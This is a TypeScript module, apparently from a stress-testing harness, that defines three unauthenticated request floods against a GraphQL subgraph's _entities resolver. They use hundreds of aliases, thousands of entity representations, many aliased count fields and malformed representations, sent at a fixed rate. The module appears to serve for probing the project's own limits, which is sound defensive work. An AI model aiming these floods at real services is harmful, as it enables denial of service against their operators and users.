/**
 * Representations to a standalone subgraph, without a token: one list to a hundred aliases, lists of the maximum length, a hundred aliases
 * of one count, and invalid representations.
 */
import { postUntil, type Attack } from '../attack.ts'

const PACE = { lanes: 16, perSecond: 200 }

function videos(count: number, index: number): object[] {
  return Array.from({ length: count }, (_, place) => ({ __typename: 'Video', id: String(index * count + place) }))
}

function bodyOf(fields: number, selection: string, representations: readonly unknown[]): string {
  const entities = Array.from({ length: fields }, (_, field) => `e${field}: _entities(representations: $r) { ${selection} }`)
  return JSON.stringify({ query: `query ($r: [_Any!]!) { ${entities.join(' ')} }`, variables: { r: representations } })
}

const COUNTS = Array.from({ length: 98 }, (_, place) => `c${place}: likeCount`).join(' ')

export const attacks: readonly Attack[] = [
  {
    title: 'subgraph: a thousand representations to a hundred aliases',
    role: 'subgraph',
    run: (target, signal) => postUntil(target, signal, PACE, (index) => bodyOf(100, '... on Video { likeCount }', videos(1_000, index))),
  },
  {
    title: 'subgraph: as many representations as the limits allow',
    role: 'subgraph',
    run: (target, signal) =>
      postUntil(target, signal, PACE, (index) =>
        index % 2 === 0
          ? bodyOf(1, '... on Video { likeCount }', videos(9_900, index))
          : bodyOf(1, `... on Video { ${COUNTS} }`, videos(900, index)),
      ),
  },
  {
    title: 'subgraph: representations that are none',
    role: 'subgraph',
    run: (target, signal) =>
      postUntil(target, signal, PACE, (index) =>
        bodyOf(1, '__typename', [{ __typename: `No${index}` }, null, index, { id: { toString: 1 } }]),
      ),
  },
]
